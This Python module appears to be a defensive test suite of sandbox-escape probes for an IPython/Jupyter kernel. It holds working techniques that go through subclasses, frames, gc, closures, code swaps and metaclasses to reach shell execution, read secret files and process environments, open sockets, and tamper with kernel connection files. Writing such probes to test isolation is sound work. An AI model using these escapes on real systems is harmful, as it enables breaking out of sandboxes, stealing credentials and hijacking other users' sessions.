"""Owns the attacks that walk from harmless objects to dangerous ones: classes, frames, closures, kernel."""

from __future__ import annotations

from .probe import Probe

SHELL = 'T["tools"]["touch"] + " " + T["marker"]'
CONNECT = """
def connect(module):
    sock = module.socket()
    sock.settimeout(1)
    sock.connect(tuple(T["tcp"]))
"""

PROBES = (
    Probe("ob-subclasses", "objects", f"""
found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"]
found[0].__init__.__globals__["system"]({SHELL})
"""),
    Probe("ob-subclasses-loader", "objects", """
def classes(base):
    for one in type.__subclasses__(base):
        yield one
        if one is not type:
            yield from classes(one)
loader = next(c for c in classes(object) if c.__name__ == "FileLoader")
show(loader("x", T["secret_file"]).get_data(T["secret_file"]))
"""),
    Probe("ob-globals-of-a-function", "objects", f"""
import warnings
space = warnings.catch_warnings.__init__.__globals__
space["sys"].modules["os"].system({SHELL})
"""),
    Probe("ob-builtins-of-a-function", "objects", """
import json
show(json.dumps.__builtins__["open"](T["secret_file"]).read())
"""),
    Probe("ob-frames", "objects", """
frame = sys._getframe()
while "__builtins__" not in frame.f_globals or frame.f_globals["__name__"] == "__main__":
    frame = frame.f_back
builtins = frame.f_globals["__builtins__"]
builtins = builtins if isinstance(builtins, dict) else vars(builtins)
show(builtins["open"](T["secret_file"]).read())
"""),
    Probe("ob-frame-of-a-traceback", "objects", """
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
while frame.f_back is not None:
    frame = frame.f_back
show(frame.f_builtins["open"](T["other_session"] + "/work/secret.txt").read())
"""),
    Probe("ob-frame-of-a-generator", "objects", """
def look():
    yield me.gi_frame.f_back.f_back.f_globals
me = look()
space = next(me)
show(space["__builtins__"]["open"](T["secret_file"]).read())
"""),
    Probe("ob-frame-of-a-coroutine", "objects", """
async def nothing():
    pass
one = nothing()
open_ = one.cr_frame.f_builtins["open"]
one.close()
open_(os.path.join(T["outside"], T["mark"]), "w").close()
"""),
    Probe("ob-frames-of-other-threads", "objects", CONNECT + """
for frame in sys._current_frames().values():
    while frame is not None:
        if "socket" in frame.f_globals and hasattr(frame.f_globals["socket"], "AF_INET"):
            connect(frame.f_globals["socket"])
        frame = frame.f_back
"""),
    Probe("ob-gc", "objects", CONNECT + """
import gc, types
found = [o for o in gc.get_objects() if isinstance(o, types.ModuleType) and o.__name__ == "_socket"]
connect(found[0])
"""),
    Probe("ob-gc-zmq-context", "objects", """
import gc, time, zmq
context = next(o for o in gc.get_objects() if type(o) is zmq.Context)
sock = context.socket(zmq.PUSH)
sock.linger = 0
sock.connect(f"tcp://{T['tcp'][0]}:{T['tcp'][1]}")
time.sleep(0.5)
sock.close()
"""),
    Probe("ob-gc-zmq-unix", "objects", """
import time, zmq
sock = get_ipython().kernel.iopub_thread.socket.context.socket(zmq.PAIR)
sock.linger = 0
sock.connect("ipc://" + T["unix"])
time.sleep(0.5)
sock.close()
"""),
    Probe("ob-gc-referents", "objects", """
import gc
stack, seen = [get_ipython()], set()
while stack:
    one = stack.pop()
    if id(one) in seen or len(seen) > 200_000:
        continue
    seen.add(id(one))
    if isinstance(one, dict) and "openpty" in one and "read" in one:
        fd = one["open"](T["secret_file"], 0)
        show(one["read"](fd, 1000))
        break
    stack += gc.get_referents(one)
"""),
    Probe("ob-closure", "objects", """
def outer():
    opener = open
    def inner():
        return opener
    return inner
show(outer().__closure__[0].cell_contents(T["secret_file"]).read())
"""),
    Probe("ob-code-replaced", "objects", """
def harmless(path):
    return len(path)
harmless.__code__ = harmless.__code__.replace(co_names=("open",))
show(harmless(T["secret_file"]).read())
"""),
    Probe("ob-code-in-a-library", "objects", f"""
import textwrap
def other(text, *_, **__):
    import os
    return os.system(text)
saved = textwrap.dedent.__code__
textwrap.dedent.__code__ = other.__code__
try:
    textwrap.dedent({SHELL})
finally:
    textwrap.dedent.__code__ = saved
"""),
    Probe("ob-descriptor", "objects", """
class Opens:
    __get__ = lambda self, one, kind=None: open(T["secret_file"]).read()
class Holder:
    value = Opens()
show(Holder().value)
"""),
    Probe("ob-metaclass", "objects", f"""
class Meta(type):
    def __getitem__(cls, command):
        return __import__("os").system(command)
class Harmless(metaclass=Meta):
    pass
Harmless[{SHELL}]
"""),
    Probe("ob-destructor", "objects", """
import gc
class Last:
    def __del__(self, path=os.path.join(T["outside"], T["mark"]), open=open):
        open(path, "w").close()
one = Last()
one.me = one
del one
gc.collect()
"""),
    Probe("ob-weakref-callback", "objects", """
import weakref
class Harmless:
    pass
one = Harmless()
kept = weakref.ref(one, lambda _: open(os.path.join(T["outside"], T["mark"]), "w").close())
del one
"""),
    Probe("ob-weakrefs-of-a-class", "objects", """
import socket, weakref
kinds = [ref() for kind in (socket.SocketType, object) for ref in weakref.getweakrefs(kind)]
connect = next(c for c in kinds if c is not None and c.__name__ == "socket")
sock = connect()
sock.settimeout(1)
sock.connect(tuple(T["tcp"]))
"""),
    Probe("ob-signal-handler-frame", "objects", """
import signal
def handler(number, frame):
    while frame.f_back is not None:
        frame = frame.f_back
    show(frame.f_builtins["open"](T["secret_file"]).read())
saved = signal.signal(signal.SIGUSR1, handler)
try:
    signal.raise_signal(signal.SIGUSR1)
finally:
    signal.signal(signal.SIGUSR1, saved)
"""),
    Probe("ob-trace-function", "objects", """
def trace(frame, event, arg):
    if frame.f_code.co_name == "dumps":
        sys.settrace(None)
        show(frame.f_builtins["open"](T["secret_file"]).read())
sys.settrace(trace)
__import__("json").dumps(1)
sys.settrace(None)
"""),
    Probe("ob-other-threads", "objects", """
import ctypes, threading, time
# A cage that was put around the main thread only leaves those that were there before.
errors = []
def harm():
    try:
        open(os.path.join(T["outside"], T["mark"]), "w").close()
    except Exception as error:
        errors.append(error)
kernel = get_ipython().kernel
for owner in (kernel.iopub_thread, kernel.control_thread, getattr(kernel, "shell_channel_thread", None)):
    if owner is not None:
        owner.io_loop.add_callback(harm)
time.sleep(0.3)
print(errors)
"""),
    Probe("ob-kernel-environment", "objects", """
import gc
for one in gc.get_objects():
    if isinstance(one, dict) and T["host_env"] in one:
        show(one[T["host_env"]])
for pid in ("self", os.getppid(), T["supervisor"], T["victim"]):
    try:
        show(open(f"/proc/{pid}/environ", "rb").read())
    except OSError as error:
        print(error)
"""),
    Probe("ob-kernel-paths", "objects", """
app = get_ipython().kernel.parent
folder = os.path.dirname(app.abs_connection_file)
for name in ("kernel-other.json", *os.listdir(folder)):
    try:
        show(open(os.path.join(folder, name)).read())
    except OSError:
        pass
show(open(T["other_connection"]).read())
"""),
    Probe("ob-connection-file", "objects", """
# The next client would be led to another key, or to a link.
path = get_ipython().kernel.parent.abs_connection_file
os.rename(path, T["work"] + "/moved.json")
open(path, "w").write("{}")
claim("rewrote the connection file")
""", claims=True, alone=True),
    Probe("ob-kernel-config", "objects", f"""
shell = get_ipython()
shell.system_raw = None
shell.kernel.config.clear()
type(shell).system.__globals__["os"].system({SHELL})
"""),
)  # fmt: skip
